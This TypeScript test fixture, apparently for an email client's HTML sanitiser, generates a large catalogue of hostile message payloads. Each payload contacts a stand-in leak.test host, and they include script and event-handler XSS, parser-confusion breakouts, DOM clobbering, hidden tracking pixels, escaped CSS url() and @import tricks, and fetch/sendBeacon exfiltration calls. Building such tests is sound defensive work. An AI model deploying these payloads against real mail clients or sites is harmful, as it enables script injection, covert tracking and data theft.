/** What a hostile mail may try, each way with a host of its own, so that one look at the network says which got through. */

/** The domain of all hosts that hear of nothing. */
export const LEAK = 'leak.test'

/** One way of asking a server, or of running code: its HTML for a host, and whether a page that keeps nothing back leaks by it. */
export interface Way {
  readonly name: string
  readonly html: string
  /** True when Chromium, shown the same as a page of the web, asks that host by itself. */
  readonly leaksInTheOpen: boolean
}

type Make = (url: string, host: string) => string
/** Of a way that older programs, or another browser, would follow: nothing is asked in the open either, or only sometimes. */
const quiet = (make: Make) => ({ make, leaks: false })
const leaky = (make: Make) => ({ make, leaks: true })

const run = (url: string) => `top.ran=1;new Image().src='${url}'`

/** Each theme is one message. */
const THEMES: Readonly<Record<string, Readonly<Record<string, { readonly make: Make; readonly leaks: boolean }>>>> = {
  'Scripts': {
    'inline': leaky((url) => `<script>${run(url)}</script>`),
    'script-file': leaky((url) => `<script src="${url}"></script>`),
    'module': leaky((url) => `<script type="module" src="${url}"></script>`),
    'onerror': leaky((url) => `<img src="data:image/png;base64,broken" onerror="${run(url)}">`),
    'onload': leaky((url) => `<svg onload="${run(url)}"></svg>`),
    'ontoggle': leaky((url) => `<details open ontoggle="${run(url)}"><summary>more</summary></details>`),
    'onfocus': leaky((url) => `<input autofocus onfocus="${run(url)}">`),
    'onstart': quiet((url) => `<marquee onstart="${run(url)}">moving</marquee>`),
    'onbegin': leaky((url) => `<svg><animate attributeName="x" dur="1s" onbegin="${run(url)}"/></svg>`),
    'onanimation': leaky(
      (url) =>
        `<style>@keyframes x{to{color:red}}</style><p style="animation:x 1ms" onanimationend="${run(url)}">x</p>`,
    ),
    'source-error': leaky((url) => `<video><source onerror="${run(url)}" src="data:video/mp4,x"></video>`),
    'frame-script': leaky((url) => `<iframe srcdoc="<script>${run(url)}</script>"></iframe>`),
    'frame-javascript': quiet((url) => `<iframe src="javascript:${run(url)}"></iframe>`),
    'object-html': leaky((url) => `<object data="data:text/html,<script>new Image().src='${url}'</script>"></object>`),
    'embed-svg': quiet(
      (url) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run(url)}'/>">`,
    ),
    'split-tag': leaky((url) => `<img src=x:y onerror\n=\n"${run(url)}"\n>`),
    'slash-tag': leaky((url) => `<svg/onload="${run(url)}">`),
    'entity': leaky((url) => `<img src=x:y onerror="&#116;op.ran=1;new Image().src=&#39;${url}&#39;">`),
  },
  'Markup that turns into other markup': {
    'math-style': quiet(
      (url) =>
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:y onerror=&quot;${run(url)}&quot;&gt;">`,
    ),
    'noscript-title': quiet(
      (url) => `<noscript><p title="</noscript><img src=x:y onerror=&quot;${run(url)}&quot;>"></noscript>`,
    ),
    'svg-style': leaky(
      (url) => `<svg></p><style><a id="</style><img src=x:y onerror='${run(url).replaceAll("'", '&#39;')}'>"></svg>`,
    ),
    'form-math': quiet(
      (url) =>
        `<form><math><mtext></form><form><mglyph><style></math><img src=x:y onerror="${run(url)}"></style></mglyph></form>`,
    ),
    'template-script': quiet((url) => `<template><script>${run(url)}</script></template>`),
    'xmp': leaky((url) => `<xmp><p title="</xmp><img src=x:y onerror='${run(url).replaceAll("'", '&#39;')}'>"></xmp>`),
    'textarea': leaky(
      (url) =>
        `<textarea><p title="</textarea><img src=x:y onerror='${run(url).replaceAll("'", '&#39;')}'>"></textarea>`,
    ),
    'comment-dash': leaky((url) => `<!--><img src=x:y onerror="${run(url)}">-->`),
    'comment-bang': leaky((url) => `<!-- --!><img src=x:y onerror="${run(url)}"> -->`),
    'cdata': leaky((url) => `<svg><![CDATA[><image href="${url}"/>]]></svg>`),
    'select-math': leaky((url) => `<select><math><style><img src=x:y onerror="${run(url)}"></style></math></select>`),
    'annotation': quiet(
      (url) =>
        `<math><annotation-xml encoding="text/html"><style><img src=x:y onerror="${run(url)}"></style></annotation-xml></math>`,
    ),
    'shadow': leaky((url) => `<div><template shadowrootmode="open"><img src="${url}"></template></div>`),
    'clobber': quiet(
      (url) =>
        `<form id="attributes"><input name="parentNode"><img name="getElementById" src="data:,"><a id="documentElement" href="${url}">x</a></form>`,
    ),
    'upload': quiet((url) => `<a id=cookie href="${url}"><a id=cookie name=x>`),
  },
  'Pictures and media': {
    'img': leaky((url) => `<img src="${url}" width="300" height="20">`),
    'srcset': leaky((url) => `<img srcset="${url} 1x">`),
    'srcset-lazy': leaky((url) => `<img loading="eager" sizes="100px" srcset="${url} 100w">`),
    'image': leaky((url) => `<image src="${url}">`),
    'picture': leaky((url) => `<picture><source srcset="${url}"><img alt=""></picture>`),
    'picture-media': leaky((url) => `<picture><source media="(min-width: 1px)" srcset="${url}"><img alt=""></picture>`),
    'lowsrc': quiet((url) => `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`),
    'input-image': leaky((url) => `<input type="image" src="${url}">`),
    'poster': leaky((url) => `<video poster="${url}"></video>`),
    'video': leaky((url) => `<video src="${url}" preload="auto" muted autoplay></video>`),
    'video-source': leaky((url) => `<video preload="auto"><source src="${url}" type="video/webm"></video>`),
    'audio': leaky((url) => `<audio src="${url}" preload="auto" autoplay></audio>`),
    'track': quiet((url) => `<video><track default src="${url}"></video>`),
    'bgsound': quiet((url) => `<bgsound src="${url}">`),
    'body-background': leaky((url) => `<body background="${url}">`),
    'table-background': leaky((url) => `<table background="${url}"><tr><td>cell</td></tr></table>`),
    'cell-background': leaky((url) => `<table><tr><td background="${url}">cell</td></tr></table>`),
    'attribution': quiet((url) => `<img src="data:," attributionsrc="${url}">`),
    'spied': leaky((url) => `<img src="${url}" width="1" height="1">`),
    'hidden': leaky((url) => `<img src="${url}" style="opacity:0;position:absolute;left:-9999px">`),
  },
  'Frames, links and hints': {
    'iframe': leaky((url) => `<iframe src="${url}"></iframe>`),
    'frame-picture': leaky((url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`),
    'object': leaky((url) => `<object data="${url}"></object>`),
    'embed': leaky((url) => `<embed src="${url}">`),
    'applet': quiet((url) => `<applet code="x" codebase="${url}"></applet>`),
    'portal': quiet((url) => `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`),
    'stylesheet': leaky((url) => `<link rel="stylesheet" href="${url}">`),
    'alternate': leaky((url) => `<link rel="alternate stylesheet" title="other" href="${url}">`),
    'preload': leaky((url) => `<link rel="preload" as="image" href="${url}">`),
    'preload-set': leaky((url) => `<link rel="preload" as="image" imagesrcset="${url} 1x">`),
    'modulepreload': leaky((url) => `<link rel="modulepreload" href="${url}">`),
    'prefetch': leaky((url) => `<link rel="prefetch" href="${url}">`),
    'preconnect': quiet((url) => `<link rel="preconnect" href="${url}">`),
    'dns-prefetch': quiet((_, host) => `<link rel="dns-prefetch" href="//${host}">`),
    'dns-links': quiet(
      (url) =>
        `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${url}">a link that waits to be followed</a>`,
    ),
    'icon': quiet((url) => `<link rel="icon" href="${url}"><link rel="apple-touch-icon" href="${url}">`),
    'manifest': quiet((url) => `<link rel="manifest" href="${url}">`),
    'prerender': quiet((url) => `<link rel="prerender" href="${url}">`),
    'speculation': quiet(
      (url) =>
        `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}"],"eagerness":"immediate"}]}</script>`,
    ),
    'ping': quiet((url) => `<a href="#x" ping="${url}">ping</a>`),
    'cite': quiet((url) => `<blockquote cite="${url}"><q cite="${url}">quoted</q></blockquote>`),
    'area': quiet((url) => `<map name="m"><area href="${url}" coords="0,0,9,9"></map><img usemap="#m" src="data:,">`),
    'csp-report': quiet(
      (url) =>
        `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${url}"><img src="data:,">`,
    ),
    'xml-sheet': quiet((url) => `<?xml-stylesheet href="${url}"?>`),
  },
  'Base and relative': {
    base: leaky((url) => `<base href="${url}/"><img src="relative.png" width="200" height="20">`),
  },
  'Refresh': {
    refresh: leaky((url) => `<meta http-equiv="refresh" content="0; url=${url}">`),
  },
  'A form that sends itself': {
    form: leaky(
      (url) =>
        `<form action="${url}" id="f"><input name="q" value="1"><button formaction="${url}">Open</button></form><script>f.submit()</script>`,
    ),
  },
  'Style sheets': {
    'import': leaky((url) => `<style>@import url("${url}");</style>`),
    'import-string': leaky((url) => `<style>@import '${url}';</style>`),
    'import-escaped': leaky((url) => `<style>@\\69 mport "${url}";</style>`),
    'import-layer': leaky((url) => `<style>@import "${url}" layer(x) supports(display: grid);</style>`),
    'import-comment': leaky((url) => `<style>@import/**/"${url}";</style>`),
    'import-open': leaky((url) => `<style>@import "${url}"</style>`),
    'font': leaky(
      (url) => `<style>@font-face{font-family:far;src:url(${url})}.far{font-family:far}</style><p class="far">text</p>`,
    ),
    'rule': leaky((url) => `<style>.r1{background-image:url(${url})}</style><p class="r1">x</p>`),
    'rule-escaped': leaky((url) => `<style>.r2{background:u\\72 l(${url})}</style><p class="r2">x</p>`),
    'rule-hex': leaky((url) => `<style>.r3{background:\\75\\72\\6c(${url})}</style><p class="r3">x</p>`),
    'rule-long-hex': leaky(
      (url) => `<style>.r4{background:\\000075\\000072\\00006c(${url})}</style><p class="r4">x</p>`,
    ),
    'rule-upper': leaky((url) => `<style>.r5{background:URL( "${url}" )}</style><p class="r5">x</p>`),
    'rule-newline': leaky((url) => `<style>.r6{background:url(\n"${url}"\n)}</style><p class="r6">x</p>`),
    'rule-continued': leaky(
      (url) => `<style>.r7{background:url("${url.replace('://', ':\\\n//')}")}</style><p class="r7">x</p>`,
    ),
    'rule-open': leaky((url) => `<style>.r8{background:url("${url}"</style><p class="r8">x</p>`),
    'image-set': leaky((url) => `<style>.r9{background:image-set("${url}" 1x)}</style><p class="r9">x</p>`),
    'webkit-image-set': leaky(
      (url) => `<style>.s1{background:-webkit-image-set(url(${url}) 1x)}</style><p class="s1">x</p>`,
    ),
    'cross-fade': leaky(
      (url) => `<style>.s2{background:-webkit-cross-fade(url(${url}),url(data:,),50%)}</style><p class="s2">x</p>`,
    ),
    'variable': leaky((url) => `<style>:root{--far:url(${url})}.s3{background:var(--far)}</style><p class="s3">x</p>`),
    'media': leaky((url) => `<style>@media all{.s4{background:url(${url})}}</style><p class="s4">x</p>`),
    'supports': leaky(
      (url) => `<style>@supports (display:grid){.s5{background:url(${url})}}</style><p class="s5">x</p>`,
    ),
    'layer': leaky((url) => `<style>@layer a{.s6{background:url(${url})}}</style><p class="s6">x</p>`),
    'nested': leaky((url) => `<style>div{& .s7{background:url(${url})}}</style><div><p class="s7">x</p></div>`),
    'container': leaky(
      (url) =>
        `<style>.c{container-type:inline-size}@container (min-width:1px){.s8{background:url(${url})}}</style><div class="c"><p class="s8">x</p></div>`,
    ),
    'before': leaky((url) => `<style>.s9::before{content:url(${url})}</style><p class="s9">x</p>`),
    'exfiltration': leaky(
      (url) =>
        `<style>a[href^="https://bank"]{background:url(${url})}</style><a href="https://bank.example/secret">x</a>`,
    ),
    'import-in-comment': leaky((url) => `<style>/* */@import "${url}";/*</style>*/`),
    'namespace': quiet((url) => `<style>@namespace far "${url}";</style>`),
    'svg-sheet': leaky((url) => `<svg><style>.t1{background:url(${url})}</style></svg><p class="t1">x</p>`),
    'xlink-sheet': quiet((url) => `<svg><style xlink:href="${url}"></style></svg>`),
  },
  'Style attributes': {
    'style': leaky((url) => `<div style="background:url('${url}')">x</div>`),
    'style-entity': leaky((url) => `<div style="background:&#117;rl(${url})">x</div>`),
    'style-escaped': leaky((url) => `<div style="background:\\75rl(${url})">x</div>`),
    'style-comment': leaky((url) => `<div style="background:/**/url(${url})">x</div>`),
    'style-image-set': leaky((url) => `<div style='background:image-set("${url}" 1x)'>x</div>`),
    'list-image': leaky((url) => `<ul style="list-style-image:url(${url})"><li>x</li></ul>`),
    'border-image': leaky((url) => `<div style="border:9px solid;border-image:url(${url}) 9">x</div>`),
    'mask': leaky((url) => `<div style="-webkit-mask-image:url(${url});mask:url(${url})">x</div>`),
    'cursor': leaky((url) => `<div style="cursor:url(${url}),auto">x</div>`),
    'content': leaky((url) => `<div style="content:url(${url})">x</div>`),
    'filter': quiet((url) => `<div style="filter:url(${url}#f)">x</div>`),
    'clip': leaky((url) => `<div style="clip-path:url(${url}#c)">x</div>`),
    'shape': leaky((url) => `<div style="float:left;shape-outside:url(${url})">x</div>`),
    'behavior': quiet((url) => `<div style="behavior:url(${url});-moz-binding:url(${url})">x</div>`),
    'expression': quiet((url) => `<div style="width:expression(new Image().src='${url}')">x</div>`),
    'attribute-variable': leaky((url) => `<div style="--v:url(${url});background:var(--v)">x</div>`),
    'quoted': leaky((url) => `<div style='background:url("${url}")'>x</div>`),
    'important': leaky((url) => `<div style="background:url(${url})!important">x</div>`),
    'font-shorthand': quiet((url) => `<div style="src:url(${url});font:12px url(${url})">x</div>`),
  },
  'SVG and MathML': {
    'svg-image': leaky((url) => `<svg><image href="${url}" width="20" height="20"/></svg>`),
    'svg-xlink': leaky((url) => `<svg><image xlink:href="${url}" width="20" height="20"/></svg>`),
    'svg-use': quiet((url) => `<svg><use href="${url}#x"/></svg>`),
    'svg-fe-image': leaky(
      (url) =>
        `<svg width="20" height="20"><filter id="fe"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#fe)"/></svg>`,
    ),
    'svg-fill': leaky((url) => `<svg width="20" height="20"><rect width="9" height="9" fill="url(${url}#p)"/></svg>`),
    'svg-set': leaky(
      (url) => `<svg><image id="i" width="9" height="9"><set attributeName="href" to="${url}"/></image></svg>`,
    ),
    'svg-animate': leaky(
      (url) => `<svg><image width="9" height="9"><animate attributeName="href" values="${url}"/></image></svg>`,
    ),
    'svg-foreign': leaky(
      (url) =>
        `<svg width="50" height="50"><foreignObject width="50" height="50"><img src="${url}"></foreignObject></svg>`,
    ),
    'svg-script': leaky((url) => `<svg><script href="${url}"></script></svg>`),
    'svg-link': quiet((url) => `<svg><a href="javascript:${run(url)}"><text y="20">open</text></a></svg>`),
    'svg-data': quiet(
      (url) =>
        `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/><script>${run(url)}</script></svg>`)}">`,
    ),
    'math-link': quiet((url) => `<math href="${url}"><mi>x</mi></math>`),
    'math-action': quiet(
      (url) => `<math><maction actiontype="statusline#${url}" xlink:href="javascript:${run(url)}">x</maction></math>`,
    ),
    'math-html': leaky((url) => `<math><mtext><img src="${url}"></mtext></math>`),
  },
  'Addresses written oddly': {
    'no-scheme': leaky((_, host) => `<img src="//${host}/no-scheme">`),
    'backslashes': leaky((_, host) => `<img src="\\\\${host}\\backslashes">`),
    'mixed-slashes': leaky((_, host) => `<img src="http:/\\${host}/mixed">`),
    'upper-scheme': leaky((url) => `<img src="${url.replace('http:', 'HtTp:')}">`),
    'tab-in-scheme': leaky((url) => `<img src="${url.replace('http:', 'ht&#9;tp:')}">`),
    'newline-in-scheme': leaky((url) => `<img src="${url.replace('http:', 'ht&#10;tp:')}">`),
    'leading-space': leaky((url) => `<img src="   &#1;${url}">`),
    'entity-colon': leaky((url) => `<img src="${url.replace(':', '&colon;')}">`),
    'entities': leaky((url) => `<img src="${[...url].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('')}">`),
    'userinfo': quiet((_, host) => `<img src="http://cid:data@${host}/userinfo">`),
    'wide-dot': quiet((_, host) => `<img src="http://${host.replaceAll('.', '。')}/wide">`),
    'no-quotes': leaky((url) => `<img src=${url}>`),
    'twice': leaky((url) => `<img src="${url}" src="cid:none">`),
    'fake-cid': quiet((_, host) => `<img src="cid:x@y/../../${host}/cid">`),
    'fake-data': quiet((_, host) => `<img src="data://${host}/data">`),
    'ftp': quiet((_, host) => `<img src="ftp://${host}/ftp">`),
    'blob': quiet((url) => `<img src="blob:${url}">`),
    'view-source': quiet((url) => `<iframe src="view-source:${url}"></iframe>`),
    'about': quiet((url) => `<iframe src="about:blank?${url}"></iframe>`),
    'websocket': leaky((url) => `<script>new WebSocket('${url.replace('http', 'ws')}')</script>`),
    'beacon': leaky((url) => `<script>navigator.sendBeacon('${url}')</script>`),
    'fetch': leaky((url) => `<script>fetch('${url}', { mode: 'no-cors' })</script>`),
  },
  'Overlong': {
    'long-attribute': leaky((url) => `<img alt="${'a'.repeat(300_000)}" src="${url}">`),
    'long-style': leaky((url) => `<p style="${'color:red;'.repeat(20_000)}background:url(${url})">x</p>`),
    'many-attributes': leaky(
      (url) => `<img ${Array.from({ length: 5000 }, (_, n) => `a${n}=x`).join(' ')} src="${url}">`,
    ),
    'deep': leaky((url) => `${'<div>'.repeat(2000)}<img src="${url}">${'</div>'.repeat(2000)}`),
    'long-sheet': leaky(
      (url) => `<style>${'.a{color:red}'.repeat(20_000)}.z1{background:url(${url})}</style><p class="z1">x</p>`,
    ),
  },
}

/** What may swallow all that follows it is a message by itself. */
const APART = 'Markup that turns into other markup'

/** The messages, each with its ways; `port` is where the server of all those hosts listens. */
export function hostileMessages(port: number): readonly { readonly subject: string; readonly ways: readonly Way[] }[] {
  return Object.entries(THEMES).flatMap(([subject, theme]) => {
    const ways = Object.entries(theme).map(([name, { make, leaks }]) => {
      const host = `${name}.${LEAK}`
      return { name, html: make(`http://${host}:${port}/${name}`, `${host}:${port}`), leaksInTheOpen: leaks }
    })
    return subject === APART
      ? ways.map((way) => ({ subject: `${subject}: ${way.name}.`, ways: [way] }))
      : [{ subject: `${subject}.`, ways }]
  })
}
